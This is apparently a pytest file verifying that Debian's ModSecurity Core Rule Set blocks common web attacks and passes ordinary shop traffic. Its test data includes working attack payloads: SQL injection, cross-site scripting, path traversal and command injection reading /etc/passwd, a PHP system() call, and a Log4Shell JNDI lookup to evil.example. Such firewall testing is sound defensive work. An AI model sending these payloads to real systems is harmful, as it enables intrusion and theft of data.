"""Debian's modsecurity-crs (3.3.4) loads as it is, blocks its basics and lets plain traffic pass."""

from __future__ import annotations

from pathlib import Path

import pytest

from . import engines
from .message import Request, headers

RULES = Path("/usr/share/modsecurity-crs/rules")
SETUP = Path("/etc/modsecurity/crs/crs-setup.conf")
# What the administrator's own configuration says.
HOST = "SecRuleEngine On\nSecRequestBodyAccess On"

pytestmark = pytest.mark.skipif(not RULES.is_dir() or not SETUP.is_file(), reason="needs Debian's modsecurity-crs")
HEAD = [("Host", "shop.example.com"), ("User-Agent", "Mozilla/5.0 (X11; Linux)"), ("Accept", "*/*")]


def get(target: str, *more: tuple[str, str]) -> Request:
    names = {name.lower() for name, _ in more}
    kept = [pair for pair in HEAD if pair[0].lower() not in names]
    return Request("GET", target.encode(), headers([*kept, *more]))


def form(body: str) -> Request:
    kind = ("Content-Type", "application/x-www-form-urlencoded")
    return Request("POST", b"/form", headers([*HEAD, kind, ("Content-Length", str(len(body)))]), body.encode())


@pytest.fixture(scope="module")
def engine() -> engines.Ours:
    made = engines.ours([HOST, SETUP, *sorted(RULES.glob("*.conf"))])
    assert isinstance(made, engines.Ours)
    return made


ATTACKS = {
    "sql injection": get("/?id=1%27%20union%20select%20password%20from%20users--%20-"),
    "sql injection in a form": form("user=admin%27+or+%271%27%3D%271"),
    "cross-site scripting": get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    "traversal": get("/?file=../../../../etc/passwd"),
    "shell": get("/?cmd=%3Bcat%20/etc/passwd"),
    "scanner": get("/", ("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")),
    "log4j": get("/?x=$%7Bjndi:ldap://evil.example/a%7D"),
    "php": get("/?x=%3C?php%20system(%27id%27);?%3E"),
}
PLAIN = {
    "start": get("/"),
    "search": get("/search?q=red+shoes&page=2"),
    "form": form("name=Anna+Smith&city=Berlin&message=Hello+there"),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_attack(engine: engines.Ours, name: str) -> None:
    result = engine.run(ATTACKS[name], detect=False)
    assert result["denied"], result["fired"]
    assert result["status"] == 403


@pytest.mark.parametrize("name", PLAIN)
def test_plain(engine: engines.Ours, name: str) -> None:
    result = engine.run(PLAIN[name], detect=False)
    assert not result["denied"]
    assert not result["fired"]
